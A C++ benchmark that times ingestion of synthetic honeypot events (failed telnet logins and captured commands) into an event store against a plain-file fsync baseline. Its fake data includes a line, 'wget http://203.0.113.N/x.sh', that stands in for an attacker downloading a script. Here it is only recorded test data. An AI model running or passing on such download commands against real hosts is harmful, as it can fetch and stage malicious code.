// How many events a second go from journal lines into the store, and what the machine could do at
// best: the same bytes written to a plain file with one fsync a batch. store_bench [EVENTS]
#include "base/bytes.hpp"
#include "base/crypto/random.hpp"
#include "event/journal_line.hpp"
#include "hub/ingest.hpp"

#include <fmt/format.h>

#include <chrono>
#include <cstdlib>
#include <ctime>
#include <fcntl.h>
#include <filesystem>
#include <fstream>
#include <random>
#include <unistd.h>

namespace {

using namespace skep;
namespace fs = std::filesystem;
using Steady = std::chrono::steady_clock;

constexpr std::size_t batch_events = 8192;
constexpr Micros start = 1'764'000'000'000'000;

double seconds_since(Steady::time_point from) {
    return std::chrono::duration<double>(Steady::now() - from).count();
}

double processor_seconds() {
    timespec used{};
    ::clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &used);
    return static_cast<double>(used.tv_sec) + static_cast<double>(used.tv_nsec) / 1e9;
}

/// Skewed like real ones: few sources and passwords make most of the events.
std::vector<std::string> make_lines(int count) {
    std::mt19937 random{1}; // NOLINT(bugprone-random-generator-seed): the same in every run
    const auto skewed = [&](double largest) {
        const auto share = static_cast<double>(random()) / static_cast<double>(std::mt19937::max());
        return static_cast<int>(largest * share * share * share);
    };
    std::vector<std::string> lines;
    lines.reserve(static_cast<std::size_t>(count));
    for (int i = 0; i < count; ++i) {
        event::Event event{i % 3 == 0 ? "command.input" : "login.failed", start + i * 2'000};
        event.text("sensor", "bench").text("session", fmt::format("{:020x}", skewed(50'000)));
        event.text("protocol", "telnet").text("src_ip", fmt::format("192.0.2.{}", skewed(120'000)));
        event.text("username", fmt::format("user{}", skewed(3'000)));
        event.text("password", fmt::format("password{}", skewed(30'000)));
        if (i % 3 == 0)
            event.text("input", fmt::format("wget http://203.0.113.{}/x.sh", skewed(20'000)));
        lines.push_back(event::frame_line(event::to_json(event)));
    }
    return lines;
}

double write_floor(const fs::path& file, const std::vector<std::string>& lines) {
    const auto begun = Steady::now();
    const int fd = ::open(file.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    std::string batch;
    for (std::size_t i = 0; i < lines.size(); ++i) {
        batch += lines[i];
        if ((i + 1) % batch_events != 0 && i + 1 != lines.size()) continue;
        if (::write(fd, batch.data(), batch.size()) < 0 || ::fsync(fd) != 0) std::abort();
        batch.clear();
    }
    ::close(fd);
    return seconds_since(begun);
}

int run(int count) {
    const auto place = fs::temp_directory_path() / ("skep-bench-" + hex(crypto::random_bytes(6)));
    fs::create_directories(place / "journal");
    fs::create_directories(place / "hub");
    const auto lines = make_lines(count);
    const auto floor = write_floor(place / "journal/20251124T160000Z-000001.jsonl", lines);
    int status = 1;
    {
        auto opened =
            hub::store::Store::open({.directory = place / "hub"}, [](std::string_view) {});
        if (!opened) return 1;
        auto connection = opened->connect();
        if (!connection) return 1;
        auto writer = hub::store::Writer::make(*std::move(connection));
        if (!writer) return 1;
        hub::Ingest ingest{*std::move(writer), place / "journal", place / "hub"};
        const auto begun = Steady::now();
        const auto used = processor_seconds();
        double longest = 0;
        while (!ingest.caught_up()) {
            const auto step_begun = Steady::now();
            if (!ingest.step()) return 1;
            longest = std::max(longest, seconds_since(step_begun));
        }
        const auto took = seconds_since(begun);
        const auto cpu = processor_seconds() - used;
        fmt::print("store: {:.0f} events/s, {:.2f} CPU s a million, longest batch {:.0f} ms\n",
                   count / took, cpu * 1e6 / count, longest * 1000);
        fmt::print("floor: {:.0f} events/s (the same lines to a plain file)\n", count / floor);
        status = 0;
    }
    fmt::print("size: {:.1f} bytes an event\n",
               static_cast<double>(hub::store::Store::bytes(place / "hub")) / count);
    fs::remove_all(place);
    return status;
}

} // namespace

int main(int argc, char** argv) {
    constexpr int events_default = 200'000;
    return run(argc > 1 ? std::atoi(argv[1]) : events_default);
}
